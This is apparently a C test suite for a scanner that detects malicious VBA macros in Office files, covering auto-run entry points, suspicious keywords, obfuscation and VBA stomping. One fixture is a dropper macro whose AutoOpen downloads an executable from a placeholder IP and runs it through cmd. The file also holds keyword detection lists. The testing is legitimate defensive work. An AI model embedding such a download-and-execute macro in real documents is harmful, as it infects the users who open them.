/*
 * 2021-office-vba: generated compound files (gsf createole) with VBA
 * projects written by a small MS-OVBA compressor: auto-run entry
 * points, dropper calls, comments that must not count, obfuscation,
 * VBA stomping, and the places projects live (Word, Excel, any
 * storage).
 */
#include <unistd.h>

#include "office_t.h"

#define ATTR	"Attribute VB_Name = \"%s\"\r\n"

static const char dropper[] =
    "Attribute VB_Name = \"NewMacros\"\r\n"
    "Private Declare PtrSafe Function CreateProcessA Lib \"kernel32\" "
    "(ByVal a As String) As Long\r\n"
    "Sub AutoOpen()\r\n"
    "    Dim u As String\r\n"
    "    u = \"http://198.51.100.7/a.exe\"\r\n"
    "    URLDownloadToFile 0, u, Environ(\"TEMP\") & \"\\a.exe\", 0, 0\r\n"
    "    x = Shell(\"cmd /c start %TEMP%\\a.exe\", 0)\r\n"
    "    Set o = CreateObject(\"WScript.Shell\")\r\n"
    "End Sub\r\n";

static const char harmless[] =
    "Attribute VB_Name = \"Module1\"\r\n"
    "' Shell, CreateObject and powershell are only mentioned here\r\n"
    "Rem URLDownloadToFile in a Rem line\r\n"
    "Sub AutoOpenReport()\r\n"
    "    MsgBox \"Shellfish\" ' Shell in a trailing comment\r\n"
    "    Call Document_Opener\r\n"
    "End Sub\r\n"
    "Sub Document_Opener()\r\n"
    "    myShell = 1\r\n"
    "End Sub\r\n";

static const char workbook[] =
    "Attribute VB_Name = \"ThisWorkbook\"\r\n"
    "Private Sub Workbook_Open()\r\n"
    "    Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\n"
    "    Set s = CreateObject(\"ADODB.Stream\")\r\n"
    "End Sub\r\n";

static struct findings	 fs;

static void
build(const char *name, const char *storage, const struct ot_module *m,
    size_t nm, char *out, size_t outsz)
{
	const char	*tmp;
	char		 d[4096], v[4200];

	tmp = tap_tmpdir(name);
	ot_fmt(d, sizeof(d), "%s/src", tmp);
	ot_fmt(v, sizeof(v), "%s/%s/VBA", d, storage);
	ot_vba_project(v, m, nm);
	ot_fmt(v, sizeof(v), "%s/WordDocument", d);
	ot_write(v, "\xec\xa5\xc1\x00", 4);
	ot_fmt(out, outsz, "%s/%s.doc", tmp, name);
	ot_createole(out, d);
}

static void
scan_built(const char *name, const char *storage, const struct ot_module *m,
    size_t nm)
{
	char	 out[4096];

	build(name, storage, m, nm, out, sizeof(out));
	is_int(LW_OK, ot_scan_file(out, &fs), "%s: scans", name);
	ok(!findings_has(&fs, "OFFICE_MALFORMED"), "%s: not malformed",
	    name);
}

int
main(void)
{
	char		 obf[4096];
	size_t		 i;

	alarm(60);
	{
		struct ot_module m[] = {
			{ "ThisDocument", false, 0,
			    "Attribute VB_Name = \"ThisDocument\"\r\n" },
			{ "NewMacros", true, 7, dropper },
		};

		scan_built("dropper", "Macros", m, 2);
		ok(ot_find(&fs, "OFFICE_VBA", "NewMacros") != NULL,
		    "dropper: OFFICE_VBA names the module");
		ok(ot_find(&fs, "OFFICE_VBA", "Macros/VBA") != NULL,
		    "dropper: OFFICE_VBA names the project storage");
		ok(ot_find(&fs, "OFFICE_VBA_AUTOEXEC",
		    "module NewMacros: AutoOpen") != NULL,
		    "dropper: AutoOpen in NewMacros");
		ok(ot_find(&fs, "OFFICE_VBA_SUSPICIOUS", "module NewMacros") !=
		    NULL, "dropper: suspicious module named");
		static const char *const kw[] = { "Shell", "URLDownloadToFile",
		    "cmd /c", "CreateObject", "WScript.Shell", "Environ",
		    "Declare CreateProcess" };
		for (i = 0; i < sizeof(kw) / sizeof(kw[0]); i++)
			ok(ot_find(&fs, "OFFICE_VBA_SUSPICIOUS", kw[i]) != NULL,
			    "dropper: keyword %s", kw[i]);
		ok(ot_find(&fs, "OFFICE_VBA_SUSPICIOUS", "stomping") == NULL,
		    "dropper: not stomped");
		ok(ot_find(&fs, "OFFICE_VBA_SUSPICIOUS", "ThisDocument") ==
		    NULL && ot_find(&fs, "OFFICE_VBA_AUTOEXEC",
		    "ThisDocument") == NULL, "dropper: empty module is quiet");
		ot_dump(&fs);
	}
	{
		struct ot_module m[] = {
			{ "Module1", true, 5, harmless },
		};

		scan_built("harmless", "Macros", m, 1);
		ok(findings_has(&fs, "OFFICE_VBA"), "harmless: OFFICE_VBA");
		ok(!findings_has(&fs, "OFFICE_VBA_AUTOEXEC"),
		    "harmless: AutoOpenReport/Document_Opener are no entry "
		    "points");
		ok(!findings_has(&fs, "OFFICE_VBA_SUSPICIOUS"),
		    "harmless: keywords in comments and names do not count");
		ot_dump(&fs);
	}
	{
		struct ot_module m[] = {
			{ "ThisWorkbook", false, 3, workbook },
			{ "Sheet1", false, 0,
			    "Attribute VB_Name = \"Sheet1\"\r\n" },
		};

		scan_built("excel", "_VBA_PROJECT_CUR", m, 2);
		ok(ot_find(&fs, "OFFICE_VBA", "_VBA_PROJECT_CUR/VBA") != NULL,
		    "excel: project found");
		ok(ot_find(&fs, "OFFICE_VBA_AUTOEXEC",
		    "module ThisWorkbook: Workbook_Open") != NULL,
		    "excel: Workbook_Open");
		ok(ot_find(&fs, "OFFICE_VBA_SUSPICIOUS", "XMLHTTP") != NULL &&
		    ot_find(&fs, "OFFICE_VBA_SUSPICIOUS", "ADODB.Stream") !=
		    NULL, "excel: XMLHTTP and ADODB.Stream");
	}
	{
		/* 25 Chr() calls and StrReverse: obfuscation. */
		size_t	 n;

		n = (size_t)ot_fmt(obf, sizeof(obf), ATTR
		    "Sub Document_Close()\r\n    s = ", "Obf");
		for (i = 0; i < 25; i++)
			n += (size_t)ot_fmt(obf + n, sizeof(obf) - n,
			    "Chr(%zu) & ", 65 + i);
		n += (size_t)ot_fmt(obf + n, sizeof(obf) - n, "\"\"\r\n"
		    "    t = StrReverse(StrReverse(StrReverse(s)))\r\n"
		    "End Sub\r\n");
		struct ot_module m[] = { { "Obf", true, 3, obf } };

		scan_built("obfuscated", "PowerPointStorage", m, 1);
		ok(ot_find(&fs, "OFFICE_VBA", "PowerPointStorage/VBA") != NULL,
		    "obfuscated: project in any storage");
		ok(ot_find(&fs, "OFFICE_VBA_SUSPICIOUS", "Chr() x25") != NULL,
		    "obfuscated: Chr() counted");
		ok(ot_find(&fs, "OFFICE_VBA_SUSPICIOUS", "StrReverse x3") !=
		    NULL, "obfuscated: StrReverse counted");
		ok(ot_find(&fs, "OFFICE_VBA_AUTOEXEC", "Document_Close") !=
		    NULL, "obfuscated: Document_Close");
	}
	{
		/* Few Chr() calls are normal. */
		struct ot_module m[] = { { "Few", true, 2, ATTR
		    "Function Tab1()\r\n    Tab1 = Chr(9) & Chr(10)\r\n"
		    "End Function\r\n" } };

		scan_built("fewchr", "Macros", m, 1);
		ok(findings_has(&fs, "OFFICE_VBA") &&
		    !findings_has(&fs, "OFFICE_VBA_SUSPICIOUS"),
		    "fewchr: two Chr() calls are not obfuscation");
	}
	{
		/* p-code lines, source only Attribute lines: stomped. */
		struct ot_module m[] = {
			{ "ThisDocument", false, 0,
			    "Attribute VB_Name = \"ThisDocument\"\r\n" },
			{ "Module1", true, 9,
			    "Attribute VB_Name = \"Module1\"\r\n" },
		};

		scan_built("stomped", "Macros", m, 2);
		ok(ot_find(&fs, "OFFICE_VBA_SUSPICIOUS",
		    "module Module1: 9 compiled p-code lines but no source "
		    "code (VBA stomping)") != NULL, "stomped: detected");
		ok(ot_find(&fs, "OFFICE_VBA", "Module1") != NULL,
		    "stomped: still a VBA project with code");
		ot_dump(&fs);
	}
	{
		/* Compiled module without any source. */
		struct ot_module m[] = { { "Gone", true, 4, NULL } };

		scan_built("nosource", "Macros", m, 1);
		ok(ot_find(&fs, "OFFICE_VBA_SUSPICIOUS", "Gone") != NULL &&
		    ot_find(&fs, "OFFICE_VBA_SUSPICIOUS", "stomping") != NULL,
		    "nosource: stomped");
	}
	{
		/* An empty document module with an empty cache: nothing. */
		struct ot_module m[] = { { "ThisDocument", false, 0,
		    "Attribute VB_Name = \"ThisDocument\"\r\n" } };

		scan_built("empty", "Macros", m, 1);
		ok(fs.n == 0, "empty project: no findings");
		ot_dump(&fs);
	}
	findings_free(&fs);
	return done_testing();
}
